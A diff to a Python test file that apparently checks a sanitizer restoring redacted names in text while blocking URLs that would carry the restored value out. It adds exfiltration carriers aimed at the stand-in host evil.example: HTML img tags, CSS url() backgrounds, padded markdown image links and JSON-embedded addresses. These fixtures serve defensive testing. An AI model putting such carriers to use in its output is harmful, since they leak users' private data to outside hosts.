@@ -120,6 +120,12 @@ def test_a_foreign_placeholder_is_counted() -> None:
         "https://good.example{}",
         "https://good.example.evil.example/{}",
         "[x](javascript:fetch({}))",
+        '<img src = "https://evil.example/?q=a {}">',
+        '<img alt=">" src="https://evil.example/?q=a {}">',
+        "<img alt='>' src='//evil.example/?q=a {}'>",
+        '<img alt=">" src="/\\evil.example/?q=a {}">',
+        "<p>'</p><div style=\"background: url('https://evil.example/?q=a {}')\">",
+        "![x](https://evil.example/" + "a" * 3000 + "{})",
     ],
 )
 def test_no_address_carries_a_value_out(carrier: str) -> None:
@@ -143,6 +149,9 @@ def test_no_address_carries_a_value_out(carrier: str) -> None:
         "1 < 2 and {}",
         "if a <b and {}",
         "List<String> {}",
+        '<p>x</p><script>let name = "{}"</script>',
+        "https://evil.example/" + "a" * 3000 + " {}",
+        "\u4e00" * 3000 + "{}",
     ],
 )
 def test_an_address_of_the_request_is_restored(carrier: str) -> None:
@@ -172,11 +181,27 @@ def test_an_address_is_a_target_only_with_its_host_complete(address: str, comes_
     assert restored == (text.replace(f"<{core}>", address) if comes_back else text)
 
 
-def test_an_address_in_json_carries_nothing_out() -> None:
+@pytest.mark.parametrize(
+    "literal",
+    [
+        "https://evil.example/?q=a b {}",
+        "https:evil.example/?q=a b {}",
+        "<img alt='>' src='https://evil.example/?q=a {}'>",
+        '<img alt=\\">\\" src=\\"https://evil.example/?q=a {}\\">',
+    ],
+)
+def test_an_address_in_json_carries_nothing_out(literal: str) -> None:
     """A string literal that is an address is one to its end, blanks included."""
-    text = f'{{"url": "https://evil.example/?q=a b <{ANNA}>"}}'
+    text = f'{{"url": "{literal}"}}'.replace("{}", f"<{ANNA}>")
 
     assert whole(text, is_json=True) == text
+
+
+def test_a_sentence_beside_an_address_in_json_is_none() -> None:
+    """A word with a colon begins an address only where something follows at once."""
+    text = f'{{"url": "https://evil.example", "text": "Note: <{ANNA}>"}}'
+
+    assert whole(text, is_json=True) == text.replace(f"<{ANNA}>", "Anna Schmidt")
 
 
 ATOMS = st.sampled_from(
